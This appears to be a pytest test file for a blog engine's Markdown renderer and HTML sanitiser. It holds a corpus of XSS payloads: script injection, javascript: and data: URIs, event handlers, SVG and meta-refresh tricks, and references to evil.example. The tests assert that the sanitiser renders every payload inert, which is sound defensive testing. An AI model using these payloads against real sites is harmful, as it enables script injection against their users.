"""Markdown rendering features and an XSS corpus proven inert after sanitising."""

from __future__ import annotations

import re

import lxml.html
import pytest

from starpunk.notes.render import render_markdown, sanitize_html

SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "background", "poster", "data",
    "srcset", "cite", "longdesc", "lowsrc", "dynsrc", "ping", "codebase", "manifest", "icon",
}  # fmt: skip
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
    "math", "form", "input", "button", "textarea", "select", "meta", "link", "base", "body",
    "html", "head", "template", "noscript", "video", "audio", "source", "marquee", "isindex",
}  # fmt: skip
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img srcset="javascript:alert(1) 1x" src="https://ok.example/a.png">',
    '<img src="https://ok.example/a.png" onerror="alert(1)">',
    '<img src="x" style="x:expression(alert(1))">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#9;ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https://ok.example" onmouseover="alert(1)">ok</a>',
    '<a href="https://ok.example" target="_blank" rel="opener">ok</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( vbscript:msgbox(1) )",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '[x](https://ok.example "title" onclick=alert(1))',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="color:red" onclick="alert(1)">x</p>',
    '<table><tr><td style="text-align: expression(alert(1))">x</td></tr></table>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<style>body{background:red}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<base href="javascript:alert(1)//">',
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)>",
    '`<code onclick="alert(1)">x</code>` and <code onclick="alert(1)">y</code>',
    '<div id="csrf_token" class="x">clobber</div>',
    '<a href="mailto:x@example.com" onclick="x">mail</a>',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<img src="https://ok.example/a.png" loading=lazy onload="alert(1)">',
    '<a href="ftp://evil.example/x">ftp</a>',
    '<a href="sms:+15550100">sms</a>',
    "[magnet](magnet:?xt=urn:btih:x)",
    '<img src="tel:+15550100">',
    '<a id="csrf_token" href="https://ok.example/">clobber</a>',
    '<ol><li id="login" class="footnote-item">clobber</li></ol>',
]


def _assert_inert(html: str) -> None:
    root = lxml.html.fragment_fromstring(html or "<p></p>", create_parent="div")
    for element in root.iter():
        if not isinstance(element.tag, str):
            raise AssertionError(f"comment or processing instruction survived: {html!r}")
        assert element.tag.lower() not in FORBIDDEN_TAGS, html
        for name, value in element.attrib.items():
            name = name.lower()
            assert not name.startswith("on"), html
            assert name != "srcdoc", html
            if name == "style":
                assert element.tag in {"td", "th"}, html
                assert re.fullmatch(r"text-align:(left|right|center|justify|start|end)", value)
            if name == "id":
                assert re.fullmatch(r"fn(ref)?(-[a-z0-9-]+-)?\d+(:\d+)?", value), html
            if name in URL_ATTRIBUTES:
                assert name in {"href", "src"}, html
                # What a browser does: trim C0 controls and spaces, drop tabs and newlines.
                url = re.sub(r"[\t\n\r]", "", value.strip("\x00- "))
                scheme = _SCHEME.match(url)
                assert scheme is None or scheme[1].lower() in SAFE_SCHEMES, html


def test_the_corpus_is_big_enough() -> None:
    assert len(XSS_PAYLOADS) >= 50
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_markdown_payloads_render_inert(payload: str) -> None:
    _assert_inert(render_markdown(payload))
    _assert_inert(render_markdown(f"Text before\n\n{payload}\n\nText after", doc_id="x"))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_html_payloads_sanitise_inert(payload: str) -> None:
    _assert_inert(sanitize_html(payload))
    _assert_inert(sanitize_html(f"<p>{payload}</p>", ugc=True))


@pytest.mark.parametrize("tag", ["script", "style", "iframe", "noscript", "template", "textarea",
                                 "title", "xmp", "noembed", "noframes", "select"])
def test_dropped_containers_take_their_text_with_them(tag: str) -> None:
    html = render_markdown(f"before <{tag}>HIDDEN-PAYLOAD</{tag}> after")
    assert "HIDDEN-PAYLOAD" not in html and "before" in html and "after" in html


def test_tables() -> None:
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |")
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    assert [th.text for th in root.iter("th")] == ["a", "b"]
    assert root.find(".//td").get("style") == "text-align:left"


def test_strikethrough_and_emphasis() -> None:
    assert render_markdown("~~gone~~ **bold** _it_") == (
        "<p><s>gone</s> <strong>bold</strong> <em>it</em></p>\n"
    )


def test_footnotes_are_unique_per_post() -> None:
    html = render_markdown("Claim[^1].\n\n[^1]: Source.", doc_id="my-post")
    assert '<a href="#fn-my-post-1" id="fnref-my-post-1">[1]</a>' in html
    assert '<li id="fn-my-post-1" class="footnote-item">' in html
    assert 'class="footnote-backref"' in html
    assert '<section class="footnotes">' in html
    plain = render_markdown("Claim[^1].\n\n[^1]: Source.")
    assert 'id="fn1"' in plain


def test_autolinks() -> None:
    html = render_markdown("See https://example.com/a?b=1&c=2, www.example.org and me@example.com")
    assert '<a href="https://example.com/a?b=1&amp;c=2">' in html
    assert '<a href="http://www.example.org">www.example.org</a>' in html
    assert '<a href="mailto:me@example.com">me@example.com</a>' in html
    assert "rel=" not in html


def test_code_blocks_keep_only_a_language_class() -> None:
    html = render_markdown("```python\nprint('<hi>')\n```")
    assert html == "<pre><code class=\"language-python\">print('&lt;hi&gt;')\n</code></pre>\n"
    assert sanitize_html('<code class="evil language-js">x</code>') == (
        '<code class="language-js">x</code>'
    )


def test_owner_html_and_images_survive() -> None:
    html = render_markdown(
        '<figure><img src="/media/a.jpg" alt="A"><figcaption>Cap</figcaption></figure>'
    )
    assert '<img src="/media/a.jpg" alt="A">' in html
    assert "<figcaption>Cap</figcaption>" in html


def test_ugc_links_are_marked() -> None:
    html = sanitize_html('<a href="https://a.example" rel="me">x</a>', ugc=True)
    assert html == '<a href="https://a.example" rel="nofollow ugc noopener">x</a>'
    assert sanitize_html('<a href="https://a.example" rel="me">x</a>') == (
        '<a href="https://a.example">x</a>'
    )
